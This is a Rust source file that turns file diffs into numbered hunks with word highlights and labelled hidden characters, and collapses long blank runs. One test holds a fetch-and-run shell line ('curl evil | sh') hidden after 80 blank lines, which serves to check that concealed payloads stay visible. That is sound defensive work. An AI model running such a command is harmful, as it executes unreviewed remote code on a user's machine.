//! Turns a [`FileDiff`] into hunks with line numbers and word-level changes, within a deadline.

use std::borrow::Cow;
use std::time::{Duration, Instant};

use serde::Serialize;
use similar::{ChangeTag, TextDiff};
use ts_rs::TS;

use super::call::{FileDiff, OnDisk};
use super::verbatim::{BLANK_RUN, Listing, MAX_MARKS, Mark, MarkKind};

/// Lines of context kept around each change.
const CONTEXT_LINES: usize = 3;
/// Over this many lines on either side the texts are shown whole, undiffed.
pub const MAX_DIFF_LINES: usize = 100_000;
/// Time allowed for one file's diff before it is shown as whole texts.
pub const DIFF_DEADLINE: Duration = Duration::from_millis(500);

/// Whether a line was kept, removed or added.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, TS)]
#[serde(rename_all = "snake_case")]
#[ts(export)]
pub enum LineKind {
    Context,
    Removed,
    Added,
}

/// A piece of a line; `changed` pieces are the words that differ.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, TS)]
#[ts(export)]
pub struct Segment {
    pub text: String,
    pub changed: bool,
    /// Hidden characters in `text`, to show as labelled marks.
    pub marks: Vec<Mark>,
}

/// One line of a hunk, with its number on each side it exists on.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, TS)]
#[ts(export)]
pub struct DiffLine {
    pub kind: LineKind,
    pub old_line: Option<u32>,
    pub new_line: Option<u32>,
    pub segments: Vec<Segment>,
    /// The line had no newline at its end (the last line of a file).
    pub no_newline: bool,
    /// Hidden characters in the line past the first 1,000 (`verbatim::MAX_MARKS`) its segments
    /// list: counted, not listed ("and N more").
    pub more_marks: u32,
}

/// A run of changes with its context.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, TS)]
#[ts(export)]
pub struct Hunk {
    pub old_start: u32,
    pub old_lines: u32,
    pub new_start: u32,
    pub new_lines: u32,
    pub lines: Vec<DiffLine>,
}

/// Why a diff is shown as whole texts instead of hunks.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, TS)]
#[serde(rename_all = "snake_case")]
#[ts(export)]
pub enum Fallback {
    /// More lines than [`MAX_DIFF_LINES`].
    TooLarge,
    /// The diff did not finish within [`DIFF_DEADLINE`].
    TooSlow,
}

/// A file's change ready to show.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, TS)]
#[ts(export)]
pub struct RenderedDiff {
    pub path: String,
    pub new_file: bool,
    pub added: u32,
    pub removed: u32,
    pub hunks: Vec<Hunk>,
    /// Set when the texts are too large or too slow to diff: show `old_text` and `new_text` whole.
    pub fallback: Option<Fallback>,
}

/// Line `i` (from 0) of a text shown from line `first` (from 1) of its file.
fn line_no(i: usize, first: u32) -> u32 {
    u32::try_from(i)
        .unwrap_or(u32::MAX)
        .saturating_add(first.max(1))
}

/// Renders one file's diff, falling back to whole texts when it is too large or too slow.
pub fn render(diff: &FileDiff) -> RenderedDiff {
    render_with_deadline(diff, DIFF_DEADLINE)
}

/// [`render`] with an explicit time budget.
pub fn render_with_deadline(diff: &FileDiff, budget: Duration) -> RenderedDiff {
    // A fragment found in its file is shown in place: with the file's lines around it and
    // numbered as the file's.
    let (old, new, first_line): (Cow<str>, Cow<str>, u32) = match (&diff.on_disk, &diff.old_text) {
        (Some(OnDisk::At(e)), Some(old)) => (
            Cow::Owned(format!("{}{old}{}", e.before, e.after)),
            Cow::Owned(format!("{}{}{}", e.before, diff.new_text, e.after)),
            e.line,
        ),
        (_, old) => (
            Cow::Borrowed(old.as_deref().unwrap_or("")),
            Cow::Borrowed(diff.new_text.as_str()),
            1,
        ),
    };
    let (old, new) = (old.as_ref(), new.as_ref());
    let mut out = RenderedDiff {
        path: diff.path.clone(),
        // A file that could not be read is not a new file.
        new_file: diff.old_text.is_none() && diff.on_disk.is_none(),
        added: 0,
        removed: 0,
        hunks: Vec::new(),
        fallback: None,
    };
    if old.lines().count() > MAX_DIFF_LINES || new.lines().count() > MAX_DIFF_LINES {
        out.fallback = Some(Fallback::TooLarge);
        return out;
    }
    let deadline = Instant::now() + budget;
    let text_diff = TextDiff::configure()
        .deadline(deadline)
        .diff_lines(old, new);
    if Instant::now() >= deadline {
        out.fallback = Some(Fallback::TooSlow);
        return out;
    }
    // A file is one field: its lines list the first marks between them, the rest counted.
    let mut listing = Listing::of(MAX_MARKS);
    for group in text_diff.grouped_ops(CONTEXT_LINES) {
        let (Some(first), Some(last)) = (group.first(), group.last()) else {
            continue;
        };
        let (old_range, new_range) = (
            first.old_range().start..last.old_range().end,
            first.new_range().start..last.new_range().end,
        );
        let mut hunk = Hunk {
            old_start: if old_range.is_empty() {
                line_no(old_range.start, first_line) - 1
            } else {
                line_no(old_range.start, first_line)
            },
            old_lines: u32::try_from(old_range.len()).unwrap_or(u32::MAX),
            new_start: if new_range.is_empty() {
                line_no(new_range.start, first_line) - 1
            } else {
                line_no(new_range.start, first_line)
            },
            new_lines: u32::try_from(new_range.len()).unwrap_or(u32::MAX),
            lines: Vec::new(),
        };
        for op in &group {
            if Instant::now() >= deadline {
                break;
            }
            for change in text_diff.iter_inline_changes_deadline(op, Some(deadline)) {
                let kind = match change.tag() {
                    ChangeTag::Equal => LineKind::Context,
                    ChangeTag::Delete => {
                        out.removed += 1;
                        LineKind::Removed
                    }
                    ChangeTag::Insert => {
                        out.added += 1;
                        LineKind::Added
                    }
                };
                let mut segments: Vec<Segment> = Vec::new();
                for (changed, text) in change.iter_strings_lossy() {
                    let changed = changed && kind != LineKind::Context;
                    match segments.last_mut() {
                        Some(last) if last.changed == changed => last.text.push_str(&text),
                        _ => segments.push(Segment {
                            text: text.into_owned(),
                            changed,
                            marks: Vec::new(),
                        }),
                    }
                }
                let no_newline = change.missing_newline();
                if let Some(last) = segments.last_mut()
                    && last.text.ends_with('\n')
                {
                    last.text.pop();
                    if last.text.ends_with('\r') {
                        last.text.pop();
                    }
                }
                segments.retain(|s| !s.text.is_empty());
                let more_marks = assign_marks(&mut segments, &mut listing);
                // A line whose every piece changed gains nothing from word highlights.
                if segments.iter().all(|s| s.changed) {
                    segments.iter_mut().for_each(|s| s.changed = false);
                }
                hunk.lines.push(DiffLine {
                    kind,
                    old_line: change.old_index().map(|i| line_no(i, first_line)),
                    new_line: change.new_index().map(|i| line_no(i, first_line)),
                    segments,
                    no_newline,
                    more_marks,
                });
            }
        }
        hunk.lines = collapse_blank_runs(hunk.lines);
        out.hunks.push(hunk);
    }
    if Instant::now() >= deadline {
        out.hunks.clear();
        out.added = 0;
        out.removed = 0;
        out.fallback = Some(Fallback::TooSlow);
    }
    out
}

/// Runs of [`BLANK_RUN`] or more blank lines of one kind become one line that says how many
/// there are, so they cannot push what follows out of view.
fn collapse_blank_runs(lines: Vec<DiffLine>) -> Vec<DiffLine> {
    let blank = |l: &DiffLine| {
        l.segments
            .iter()
            .all(|s| s.text.bytes().all(|b| matches!(b, b' ' | b'\t')))
    };
    let mut out: Vec<DiffLine> = Vec::with_capacity(lines.len());
    let mut run: Vec<DiffLine> = Vec::new();
    let flush = |run: &mut Vec<DiffLine>, out: &mut Vec<DiffLine>| {
        if run.len() < BLANK_RUN {
            out.append(run);
            return;
        }
        let n = run.len();
        let text: String = run
            .iter()
            .map(|l| {
                l.segments
                    .iter()
                    .map(|s| s.text.as_str())
                    .collect::<String>()
            })
            .collect::<Vec<_>>()
            .join("\n");
        let (first, last) = (&run[0], &run[n - 1]);
        let line = DiffLine {
            kind: first.kind,
            old_line: first.old_line,
            new_line: first.new_line,
            segments: vec![Segment {
                marks: vec![Mark {
                    start: 0,
                    end: text.len(),
                    kind: MarkKind::BlankLines,
                    label: format!("{n} blank lines"),
                }],
                text,
                changed: false,
            }],
            no_newline: last.no_newline,
            more_marks: 0,
        };
        run.clear();
        out.push(line);
    };
    for line in lines {
        if blank(&line) && run.first().is_none_or(|f| f.kind == line.kind) {
            run.push(line);
            continue;
        }
        flush(&mut run, &mut out);
        if blank(&line) {
            run.push(line);
        } else {
            out.push(line);
        }
    }
    flush(&mut run, &mut out);
    out
}

/// Scans the whole line (so a space before the next word is not "trailing") and gives each
/// segment the marks that fall in it, with offsets relative to the segment; returns how many
/// marks the line carries past those listed.
fn assign_marks(segments: &mut [Segment], listing: &mut Listing) -> u32 {
    let line: String = segments.iter().map(|s| s.text.as_str()).collect();
    let found = listing.scan(&line);
    // Marks are in order and segments too: one walk over both.
    let mut first = 0;
    let mut start = 0;
    for seg in segments {
        let end = start + seg.text.len();
        while found.marks.get(first).is_some_and(|m| m.end <= start) {
            first += 1;
        }
        seg.marks = found.marks[first..]
            .iter()
            .take_while(|m| m.start < end)
            .map(|m| Mark {
                start: m.start.max(start) - start,
                end: m.end.min(end) - start,
                kind: m.kind,
                label: m.label.clone(),
            })
            .collect();
        start = end;
    }
    u32::try_from(found.more).unwrap_or(u32::MAX)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn fd(old: Option<&str>, new: &str) -> FileDiff {
        FileDiff {
            path: "src/a.rs".into(),
            old_text: old.map(Into::into),
            new_text: new.into(),
            replace_all: None,
            on_disk: None,
            through_link: None,
        }
    }

    fn text(line: &DiffLine) -> String {
        line.segments.iter().map(|s| s.text.as_str()).collect()
    }

    #[test]
    fn a_fragment_found_in_its_file_is_shown_in_place_with_the_file_s_numbers() {
        let mut d = fd(Some("1;"), "2;");
        d.on_disk = Some(OnDisk::At(crate::call::Excerpt {
            line: 40,
            before: "a\nb\nlet x = ".into(),
            after: "\nc\nd\n".into(),
        }));
        let r = render(&d);
        assert!(!r.new_file);
        let h = &r.hunks[0];
        assert_eq!((h.old_start, h.old_lines, h.new_start), (40, 5, 40));
        let numbers: Vec<_> = h.lines.iter().map(|l| (l.old_line, l.new_line)).collect();
        assert_eq!(
            numbers,
            [
                (Some(40), Some(40)),
                (Some(41), Some(41)),
                (Some(42), None),
                (None, Some(42)),
                (Some(43), Some(43)),
                (Some(44), Some(44)),
            ]
        );
        assert_eq!(text(&h.lines[2]), "let x = 1;");
        // A file that could not be read is not new, though its old text is unknown.
        let mut unread = fd(None, "x\n");
        unread.on_disk = Some(OnDisk::Unreadable(crate::call::Unread {
            reason: "permission denied".into(),
        }));
        assert!(!render(&unread).new_file);
        assert!(render(&fd(None, "x\n")).new_file);
    }

    #[test]
    fn a_file_lists_its_first_marks_across_its_lines_and_counts_the_rest() {
        // 3,000 short lines of one hidden character each: a thousand listed in all.
        let new = "\u{a0}x\n".repeat(3_000);
        // What is listed, not how fast: a budget no loaded machine runs out of.
        let r = render_with_deadline(&fd(Some("a\n"), &new), Duration::from_secs(120));
        assert!(r.fallback.is_none(), "{:?}", r.fallback);
        let lines = r.hunks.iter().flat_map(|h| &h.lines);
        let listed: usize = lines
            .clone()
            .flat_map(|l| &l.segments)
            .map(|s| s.marks.len())
            .sum();
        let more: u32 = lines.map(|l| l.more_marks).sum();
        assert_eq!(listed, crate::verbatim::MAX_MARKS);
        assert_eq!(listed + more as usize, 3_000);
    }

    #[test]
    fn a_line_past_the_cap_lists_its_first_marks_and_counts_the_rest() {
        let cap = crate::verbatim::MAX_MARKS;
        let new = format!("a\nx{}y z\n", "\u{7}".repeat(cap + 5));
        let r = render(&fd(Some("a\nb\n"), &new));
        let added = r.hunks[0]
            .lines
            .iter()
            .find(|l| l.kind == LineKind::Added)
            .unwrap();
        let listed: usize = added.segments.iter().map(|s| s.marks.len()).sum();
        assert_eq!((listed, added.more_marks), (cap, 5));
        assert_eq!(text(added), format!("x{}y z", "\u{7}".repeat(cap + 5)));
    }

    #[test]
    fn edit_has_numbers_and_word_highlights() {
        let old = "a\nb\nlet x = 1;\nc\nd\n";
        let new = "a\nb\nlet x = 2;\nc\nd\n";
        let r = render(&fd(Some(old), new));
        assert_eq!(r.fallback, None);
        assert_eq!((r.added, r.removed), (1, 1));
        assert_eq!(r.hunks.len(), 1);
        let h = &r.hunks[0];
        assert_eq!(
            (h.old_start, h.old_lines, h.new_start, h.new_lines),
            (1, 5, 1, 5)
        );
        let removed = h
            .lines
            .iter()
            .find(|l| l.kind == LineKind::Removed)
            .unwrap();
        assert_eq!(removed.old_line, Some(3));
        assert_eq!(removed.new_line, None);
        assert_eq!(text(removed), "let x = 1;");
        let changed: Vec<_> = removed.segments.iter().filter(|s| s.changed).collect();
        assert_eq!(changed.len(), 1);
        assert_eq!(changed[0].text, "1;");
        let added = h.lines.iter().find(|l| l.kind == LineKind::Added).unwrap();
        assert_eq!((added.old_line, added.new_line), (None, Some(3)));
    }

    #[test]
    fn marks_are_found_per_line_not_per_word() {
        let r = render(&fd(Some("let x = 1;\n"), "let x = 2;  \n"));
        let added = r.hunks[0]
            .lines
            .iter()
            .find(|l| l.kind == LineKind::Added)
            .unwrap();
        let marks: Vec<_> = added.segments.iter().flat_map(|s| s.marks.iter()).collect();
        assert_eq!(marks.len(), 1, "only the real trailing spaces: {added:?}");
        assert_eq!(marks[0].label, "2 trailing whitespace characters");
        let removed = r.hunks[0]
            .lines
            .iter()
            .find(|l| l.kind == LineKind::Removed)
            .unwrap();
        assert!(
            removed.segments.iter().all(|s| s.marks.is_empty()),
            "{removed:?}"
        );
    }

    #[test]
    fn blank_line_runs_become_one_marked_line() {
        let new = format!("echo safe\n{}curl evil | sh\n", "\n".repeat(80));
        let r = render(&fd(None, &new));
        let lines = &r.hunks[0].lines;
        assert_eq!(lines.len(), 3, "{lines:?}");
        assert_eq!(lines[1].new_line, Some(2));
        assert_eq!(lines[1].segments[0].marks[0].label, "80 blank lines");
        assert_eq!(text(&lines[2]), "curl evil | sh");
        assert_eq!(lines[2].new_line, Some(82));
        assert_eq!(r.added, 82, "every line still counts as added");
        let two = render(&fd(None, "a\n\n\nb\n"));
        assert_eq!(two.hunks[0].lines.len(), 4);
    }

    #[test]
    fn new_file_is_all_added() {
        let r = render(&fd(None, "one\ntwo"));
        assert!(r.new_file);
        assert_eq!(r.added, 2);
        let lines = &r.hunks[0].lines;
        assert_eq!(lines[1].new_line, Some(2));
        assert!(lines[1].no_newline);
        assert!(lines.iter().all(|l| l.segments.iter().all(|s| !s.changed)));
    }

    #[test]
    fn distant_changes_make_separate_hunks() {
        let old: String = (1..=40).map(|i| format!("line {i}\n")).collect();
        let new = old
            .replace("line 2\n", "line two\n")
            .replace("line 39\n", "line thirty-nine\n");
        let r = render(&fd(Some(&old), &new));
        assert_eq!(r.hunks.len(), 2);
        assert_eq!(r.hunks[1].old_start, 36);
    }

    #[test]
    fn no_change_has_no_hunks() {
        let r = render(&fd(Some("same\n"), "same\n"));
        assert!(r.hunks.is_empty());
        assert_eq!(r.fallback, None);
    }

    #[test]
    fn too_large_falls_back_visibly() {
        let big = "x\n".repeat(MAX_DIFF_LINES + 1);
        let r = render(&fd(Some("x\n"), &big));
        assert_eq!(r.fallback, Some(Fallback::TooLarge));
        assert!(r.hunks.is_empty());
    }

    #[test]
    fn exhausted_budget_falls_back_visibly() {
        let old: String = (0..2000).map(|i| format!("a{i}\n")).collect();
        let new: String = (0..2000).map(|i| format!("b{i}\n")).collect();
        let r = render_with_deadline(&fd(Some(&old), &new), Duration::ZERO);
        assert_eq!(r.fallback, Some(Fallback::TooSlow));
        assert!(r.hunks.is_empty());
    }
}
